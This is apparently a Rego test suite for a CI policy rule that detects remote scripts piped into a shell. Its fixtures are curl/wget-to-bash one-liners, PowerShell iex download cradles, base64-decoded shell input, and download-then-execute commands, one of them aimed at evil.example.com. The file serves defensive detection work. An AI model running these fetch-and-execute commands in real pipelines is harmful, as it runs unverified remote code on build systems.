package pipeline.remote_script_piped_to_shell_test

import data.lib.hints
import data.lib.testing
import data.pipeline.remote_script_piped_to_shell as rule

cmd(commands) := testing.pipeline([testing.command_step({"commands": commands})])

evidence_of(commands) := {f.evidence | some f in findings} if {
	findings := rule.deny with input as cmd(commands)
}

test_curl_pipe_bash_fails if {
	findings := rule.deny with input as cmd(["make", "curl -fsSL https://get.example.com/install.sh | bash"])
	count(findings) == 1
	some f in findings
	f.rule == "pipeline/remote_script_piped_to_shell"
	f.path == ["steps", 0, "commands", 1]
	f.evidence == "curl -fsSL https://get.example.com/install.sh | bash"
	contains(f.message, "piped into a shell")
}

test_pipe_variants_fail if {
	evidence_of([
		"wget -qO- https://a.example.com/i.sh | sh",
		"curl -sL https://b.example.com/i | sudo -E bash -",
		"curl -sSf https://sh.rustup.rs | sh -s -- -y",
		"curl -s \"https://c.example.com/i?a=1&b=2\" | /bin/bash",
		"curl -fsSL https://d.example.com/i | tee install.log | zsh",
		"curl -fsSL https://e.example.com/i |\n  sudo env FOO=1 sh",
	]) == {
		"wget -qO- https://a.example.com/i.sh | sh",
		"curl -sL https://b.example.com/i | sudo -E bash",
		"curl -sSf https://sh.rustup.rs | sh",
		"curl -s \"https://c.example.com/i?a=1&b=2\" | /bin/bash",
		"curl -fsSL https://d.example.com/i | tee install.log | zsh",
		"curl -fsSL https://e.example.com/i |\n  sudo env FOO=1 sh",
	}
}

test_pipe_to_non_shell_passes if {
	commands := [
		"curl -fsSL https://cli.github.com/packages/githubcli-archive-keyring.gpg | dd of=/usr/share/keyrings/gh.gpg 2>/dev/null",
		"curl -fsSL https://x.example.com/x.tgz | tar -xz",
		"curl -fsSL https://x.example.com/SHA256SUMS | sha256sum --check",
		"curl -s https://api.example.com/v1 | jq .version",
		"curl -s https://x.example.com || sh fallback.sh",
		"curl -fsSLo install.sh https://x.example.com/install.sh && sha256sum -c install.sha256 && sh install.sh",
		"echo \"ee75  llamas.txt\" | sha256sum --check",
	]
	count(evidence_of(commands)) == 0
}

test_interpreter_reading_stdin_fails if {
	evidence_of([
		"curl -sSL https://install.python-poetry.org | python3 -",
		"curl -sL https://x.example.com/get.py | python",
	]) == {
		"curl -sSL https://install.python-poetry.org | python3 -",
		"curl -sL https://x.example.com/get.py | python",
	}
}

test_interpreter_parsing_data_passes if {
	commands := [
		"curl -s https://api.example.com | python3 -c 'import sys, json; print(json.load(sys.stdin)[\"v\"])'",
		"curl -s https://api.example.com | python -m json.tool",
		"curl -s https://api.example.com | node -e 'process.stdin.pipe(process.stdout)'",
	]
	count(evidence_of(commands)) == 0
}

test_process_substitution_fails if {
	evidence_of([
		"bash <(curl -fsSL https://a.example.com/i.sh)",
		"source <(curl -s https://b.example.com/env)",
		". <(wget -qO- https://c.example.com/env)",
	]) == {
		"bash <(curl -fsSL https://a.example.com/i.sh)",
		"source <(curl -s https://b.example.com/env)",
		". <(wget -qO- https://c.example.com/env)",
	}
}

test_command_substitution_fails if {
	evidence_of([
		"/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"",
		"sh -c \"`wget -qO- https://x.example.com/i`\"",
		"eval \"$(curl -s https://y.example.com/env)\"",
	]) == {
		"bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)",
		"sh -c \"`wget -qO- https://x.example.com/i`",
		"eval \"$(curl -s https://y.example.com/env)",
	}
}

test_eval_local_command_passes if {
	# greylag-ci/cicd-goat: the `eval "$(ssh-agent -s)"` bootstrap is not a download.
	count(evidence_of(["eval \"$(ssh-agent -s)\"", "eval \"$BUILD_CMD\"", "sh -c $RAW_HOOK"])) == 0
}

test_powershell_fails if {
	evidence_of([
		"iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
		"irm https://get.scoop.sh | iex",
		"Invoke-Expression (Invoke-WebRequest -UseBasicParsing https://x.example.com/i.ps1).Content",
	]) == {
		"iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
		"irm https://get.scoop.sh | iex",
		"Invoke-Expression (Invoke-WebRequest -UseBasicParsing https://x.example.com/i.ps1).Content",
	}
}

test_powershell_download_to_file_passes if {
	count(evidence_of(["Invoke-WebRequest https://x.example.com/i.ps1 -OutFile i.ps1"])) == 0
}

test_plugin_command_fails if {
	plugin := testing.plugin("docker", "v5.12.0", {"image": "alpine:3", "command": ["sh", "-c", "wget -qO- https://x.example.com/i | sh"]})
	findings := rule.deny with input as testing.pipeline([testing.command_step({"plugins": [plugin]})])
	{[f.path, f.evidence] | some f in findings} == {[["steps", 0, "plugins", 0, "config", "command", 2], "wget -qO- https://x.example.com/i | sh"]}
}

test_group_member_path if {
	group := testing.step("group", {"steps": [testing.command_step({"commands": ["curl -s https://x.example.com/i | bash"]})]})
	findings := rule.deny with input as testing.pipeline([group])
	{f.path | some f in findings} == {["steps", 0, "steps", 0, "commands", 0]}
}

test_allowed_sources_knob if {
	commands := ["curl -fsSL https://tools.corp.example/install.sh | bash", "curl -fsSL https://other.example.com/i | bash"]
	findings := rule.deny with input as cmd(commands)
		with data.config.rules as {"pipeline/remote_script_piped_to_shell": {"allowed_sources": [`^curl -fsSL https://tools\.corp\.example/`]}}
	{f.evidence | some f in findings} == {"curl -fsSL https://other.example.com/i | bash"}
}

test_patterns_knob_kind_off if {
	findings := rule.deny with input as cmd(["bash <(curl -s https://x.example.com/i)", "curl -s https://y.example.com/i | sh"])
		with data.config.rules as {"pipeline/remote_script_piped_to_shell": {"patterns": {"run through process substitution": []}}}
	{f.evidence | some f in findings} == {"curl -s https://y.example.com/i | sh"}
}

test_evidence_is_first_non_empty_group if {
	# Kinds are matched as one alternation; the matching alternative's first group is the evidence.
	evidence_of(["curl -s https://x.example.com/get.py | python3 -", ". <(curl -s https://y.example.com/env)"]) == {
		"curl -s https://x.example.com/get.py | python3 -",
		". <(curl -s https://y.example.com/env)",
	}
}

test_every_default_pattern_has_hints if {
	every _, patterns in rule.knobs.patterns {
		hints.needles(patterns, rule.pattern_hints) != null
	}
}

test_php_installer_fails if {
	evidence_of([
		"echo \"--- Installing Composer\"\nif [ ! -f composer.phar ]; then\n  curl -sS https://getcomposer.org/installer | php > /dev/null\nfi",
		"curl -sS https://getcomposer.org/installer | php -- --install-dir=/usr/local/bin --filename=composer",
	]) == {
		"curl -sS https://getcomposer.org/installer | php",
		"curl -sS https://getcomposer.org/installer | php -- --install-dir=/usr/local/bin --filename=composer",
	}
}

test_base64_to_shell_fails if {
	findings := rule.deny with input as cmd(["echo \"$$PAYLOAD\" | base64 -d | bash", "echo aGk= | base64 --decode > out.txt"])
	{f.evidence | some f in findings} == {"base64 -d | bash"}
	some f in findings
	startswith(f.message, "an encoded script is decoded from base64 and piped into a shell")
}

test_comment_lines_pass if {
	count(evidence_of(["# curl https://evil.example.com | sh\nmake", "  # wget -qO- https://x.example.com | bash"])) == 0
}

test_download_chmod_run_fails if {
	findings := rule.deny with input as cmd([
		"curl -fsSL https://github.com/acme/tool/releases/latest/download/tool-linux -o tool && chmod +x tool && ./tool --version",
		"SOPS_BIN=/cache/sops\ncurl -fsSL \"https://github.com/getsops/sops/releases/download/v3/sops.linux.amd64\" -o \"$$SOPS_BIN\"\nchmod +x \"$$SOPS_BIN\"\nexport T=$$(\"$$SOPS_BIN\" decrypt secrets.yaml)",
	])
	{[f.path[3], f.evidence] | some f in findings} == {
		[0, "curl -fsSL https://github.com/acme/tool/releases/latest/download/tool-linux -o tool"],
		[1, "curl -fsSL \"https://github.com/getsops/sops/releases/download/v3/sops.linux.amd64\" -o \"$$SOPS_BIN\""],
	}
	some f in findings
	f.path[3] == 0
	contains(f.message, "saved as `tool` and made executable and run without verification")
}

test_download_across_command_lines_and_remote_name if {
	findings := rule.deny with input as cmd([
		"wget -q -O /usr/local/bin/jq https://github.com/jqlang/jq/releases/latest/download/jq-linux-amd64",
		"sudo chmod 0755 /usr/local/bin/jq",
		"curl -LO https://dl.example.com/v1/installer.run",
		"chmod a+x installer.run; sudo ./installer.run",
		"sudo /usr/local/bin/jq --version",
	])
	{f.path[3] | some f in findings} == {0, 2}
}

test_download_verified_or_not_run_passes if {
	count(evidence_of([
		"curl -fsSLo tool https://x.example.com/tool && echo \"$$SUM  tool\" | sha256sum -c - && chmod +x tool && ./tool",
		"curl -fsSLo data.bin https://x.example.com/data.bin && chmod 644 data.bin && ./run.sh data.bin",
		"curl -fsSL -o /dev/null -w '%{http_code}' https://x.example.com && chmod +x run.sh && ./run.sh",
		"curl -fsSLo plugin https://x.example.com/plugin && chmod +x plugin && mv plugin ~/.terraform.d/",
	])) == 0
}

test_download_then_interpreter_fails if {
	findings := rule.deny with input as cmd([
		"curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh",
		"wget -O get-pip.py https://bootstrap.pypa.io/get-pip.py\npython3 get-pip.py --user",
		"curl -sSLo env.sh https://x.example.com/env.sh; bash -x ./env.sh",
		"curl -fsSLo data.json https://x.example.com/data.json && python3 parse.py data.json",
	])
	{f.path[3] | some f in findings} == {0, 1, 2}
	some f in findings
	f.path[3] == 0
	contains(f.message, "saved as `get-docker.sh` and run by an interpreter")
}
